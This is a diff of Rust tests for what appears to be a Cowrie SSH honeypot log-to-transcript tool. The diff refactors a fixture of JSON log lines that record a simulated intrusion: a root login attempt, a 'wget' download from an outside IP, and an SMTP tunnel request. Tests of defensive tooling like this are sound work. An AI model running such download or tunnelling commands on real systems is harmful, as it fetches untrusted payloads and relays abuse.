@@ -489,21 +489,30 @@ mod tests {
     use super::*;
     use crate::simulate::{Generator, Shape, Simulation, hostile};
 
-    const LINES: &[&str] = &[
-        r#"{"eventid":"cowrie.session.closed","duration":"12.5","message":"Connection lost","sensor":"hive","timestamp":"2026-03-22T00:00:12.500000Z","src_ip":"192.0.2.7","session":"c0ffee123456","protocol":"ssh"}"#,
-        r#"{"eventid":"cowrie.session.connect","src_ip":"192.0.2.7","src_port":4711,"dst_ip":"192.0.2.1","dst_port":22,"session":"c0ffee123456","protocol":"ssh","sensor":"hive","timestamp":"2026-03-22T00:00:00.000000Z"}"#,
-        r#"{"eventid":"cowrie.client.version","version":"SSH-2.0-Go","sensor":"hive","timestamp":"2026-03-22T00:00:00.100000Z","session":"c0ffee123456"}"#,
-        r#"{"eventid":"cowrie.login.failed","username":"root","password":"\u001b[31m","sensor":"hive","timestamp":"2026-03-22T00:00:01Z","session":"c0ffee123456"}"#,
-        r#"{"eventid":"cowrie.login.success","username":"","password":"x","sensor":"hive","timestamp":"2026-03-22T00:00:02Z","session":"c0ffee123456"}"#,
-        r#"{"eventid":"cowrie.command.input","input":"wget http://203.0.113.9/a","sensor":"hive","timestamp":"2026-03-22T00:00:03Z","session":"c0ffee123456"}"#,
-        r#"{"eventid":"cowrie.session.file_download","url":"http://203.0.113.9/a","shasum":"00ff","sensor":"hive","timestamp":"2026-03-22T00:00:04Z","session":"c0ffee123456"}"#,
-        r#"{"eventid":"cowrie.direct-tcpip.request","dst_ip":"mail.example.com","dst_port":25,"src_ip":"192.0.2.7","src_port":1,"sensor":"hive","timestamp":"2026-03-22T00:00:05Z","session":"c0ffee123456"}"#,
-        r#"{"eventid":"cowrie.new.kind","colour":"blue","depth":3,"sensor":"hive","timestamp":"2026-03-22T00:00:06Z","session":"c0ffee123456"}"#,
-    ];
+    /// A session's lines, its end first.
+    fn lines() -> Vec<String> {
+        let tunnel = r#""dst_ip":"mail.example.com","dst_port":25,"src_ip":"192.0.2.7","src_port":1"#;
+        [
+            ("session.closed", "12.500000", r#""duration":"12.5","message":"Connection lost","src_ip":"192.0.2.7","protocol":"ssh""#),
+            ("session.connect", "00.000000", r#""src_ip":"192.0.2.7","src_port":4711,"dst_ip":"192.0.2.1","dst_port":22"#),
+            ("client.version", "00.100000", r#""version":"SSH-2.0-Go""#),
+            ("login.failed", "01", r#""username":"root","password":"\u001b[31m""#),
+            ("login.success", "02", r#""username":"","password":"x""#),
+            ("command.input", "03", r#""input":"wget http://203.0.113.9/a""#),
+            ("session.file_download", "04", r#""url":"http://203.0.113.9/a","shasum":"00ff""#),
+            ("direct-tcpip.request", "05", tunnel),
+            ("new.kind", "06", r#""colour":"blue","depth":3"#),
+        ]
+        .map(|(kind, second, fields)| {
+            let stamp = format!("2026-03-22T00:00:{second}Z");
+            format!(r#"{{"eventid":"cowrie.{kind}",{fields},"sensor":"hive","timestamp":"{stamp}","session":"c0ffee123456"}}"#)
+        })
+        .to_vec()
+    }
 
     #[test]
     fn tells_a_session_in_order_whatever_the_order_of_its_lines() {
-        let transcripts = transcripts(LINES);
+        let transcripts = transcripts(&lines());
         let [transcript] = transcripts.as_slice() else { panic!("{} transcripts", transcripts.len()) };
         assert_eq!(
             transcript.render(&Output::plain()),
@@ -533,7 +542,7 @@ lasted    12.5 s
 
     #[test]
     fn the_json_form_keeps_values_as_they_were() {
-        let json = serde_json::to_value(&transcripts(LINES)[0]).unwrap();
+        let json = serde_json::to_value(&transcripts(&lines())[0]).unwrap();
         assert_eq!(json["started"], "2026-03-22T00:00:00.000000Z");
         assert_eq!(json["duration_seconds"], 12.5);
         assert_eq!(json["entries"][2]["what"], "login");
